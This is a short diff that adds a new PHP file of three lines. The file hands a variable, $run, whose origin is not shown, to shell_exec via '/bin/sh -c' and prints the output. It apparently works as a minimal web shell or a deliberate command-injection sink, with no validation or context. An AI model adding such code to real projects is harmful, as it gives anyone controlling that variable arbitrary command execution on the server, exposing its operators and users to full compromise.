@@ -1,0 +1,3 @@
+<?php
+$res = shell_exec("/bin/sh -c " . $run);
+print $res;
